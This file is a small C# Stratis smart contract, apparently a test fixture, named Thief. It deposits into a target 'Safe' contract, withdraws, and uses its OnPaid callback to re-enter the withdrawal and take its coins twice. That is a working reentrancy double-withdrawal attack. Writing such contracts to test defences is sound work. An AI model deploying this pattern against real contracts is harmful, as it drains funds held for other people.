#nullable disable
using Stratis.SmartContracts;

/// <summary>Takes its coins out of a safe, and once more while it is being paid.</summary>
public class Thief : SmartContract
{
    public Thief(ISmartContractState state, Address safe) : base(state)
    {
        State.SetAddress("Safe", safe);
    }

    public void Put() => Assert(Call(State.GetAddress("Safe"), Message.Value, "Put").Success, "not put");

    public void Take()
    {
        State.SetBool("Again", true);
        Assert(Call(State.GetAddress("Safe"), 0, "Take").Success, "not taken");
    }

    public void OnPaid()
    {
        if (!State.GetBool("Again"))
            return;

        State.SetBool("Again", false);
        Call(State.GetAddress("Safe"), 0, "Take");
    }
}
